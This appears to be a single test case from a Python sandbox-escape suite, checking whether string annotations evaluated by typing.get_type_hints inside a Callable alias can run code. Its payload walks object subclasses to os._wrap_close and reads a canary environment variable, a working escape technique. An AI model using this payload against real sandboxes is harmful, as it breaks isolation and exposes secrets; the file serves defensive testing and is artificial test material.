"""No app has a string evaluated among the arguments of a callable."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing", "collections.abc")


import collections.abc
import typing

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return int


reference = typing.get_args(typing.List[CODE])[0]
alias = collections.abc.Callable[[reference], int]


class Holder:
    x: alias


def attack():
    typing.get_type_hints(Holder)
    return "ESCAPED: " + found[0]
